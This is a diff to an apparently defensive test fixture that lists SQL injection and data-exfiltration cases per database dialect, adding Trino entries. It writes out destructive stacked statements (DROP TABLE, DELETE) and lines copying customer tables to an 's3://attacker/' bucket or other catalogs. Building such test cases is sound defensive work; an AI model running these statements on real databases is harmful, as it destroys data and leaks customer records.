@@ -8,7 +8,7 @@ export const classOneAttacks: AttackCase[] = [
   ...acrossDialects(1, 'insert', allDialects, "INSERT INTO customers (id, name) VALUES (99, 'attacker')", 'not-a-query'),
   ...acrossDialects(1, 'stacked-drop', allDialects, 'SELECT 1; DROP TABLE customers', 'multiple-statements'),
   ...acrossDialects(1, 'stacked-after-select', allDialects, 'SELECT id FROM orders; DELETE FROM orders', 'multiple-statements'),
-  ...acrossDialects(1, 'stacked-after-comment', ['postgres', 'redshift', 'duckdb', 'sqlite', 'snowflake', 'athena'],
+  ...acrossDialects(1, 'stacked-after-comment', ['postgres', 'redshift', 'duckdb', 'sqlite', 'snowflake', 'athena', 'trino'],
     'SELECT 1 -- x\n; DROP TABLE customers', 'multiple-statements'),
   ...acrossDialects(1, 'stacked-after-comment', ['mysql'], 'SELECT 1 -- x\n; DROP TABLE customers', 'multiple-statements'),
   ...acrossDialects(1, 'create-table-as', ['postgres', 'redshift', 'duckdb'], 'CREATE TABLE loot AS SELECT * FROM customers', 'not-a-query'),
@@ -48,4 +48,8 @@ export const classOneAttacks: AttackCase[] = [
   { id: '1-sqlite-vacuum-into', class: 1, dialect: 'sqlite', sql: "VACUUM INTO '/tmp/copy.db'" },
   { id: '1-snowflake-create-stage', class: 1, dialect: 'snowflake', sql: "CREATE STAGE leak URL = 's3://attacker/'" },
   { id: '1-athena-ctas', class: 1, dialect: 'athena', sql: "CREATE TABLE loot WITH (external_location = 's3://attacker/') AS SELECT * FROM customers" },
+  { id: '1-trino-ctas-other-catalog', class: 1, dialect: 'trino', sql: 'CREATE TABLE hive.default.loot AS SELECT * FROM customers' },
+  { id: '1-trino-insert-other-catalog', class: 1, dialect: 'trino', sql: 'INSERT INTO mysql.hr.audit SELECT * FROM customers' },
+  { id: '1-trino-call-procedure', class: 1, dialect: 'trino', sql: "CALL system.flush_metadata_cache()" },
+  { id: '1-trino-start-transaction', class: 1, dialect: 'trino', sql: 'START TRANSACTION READ WRITE' },
 ];
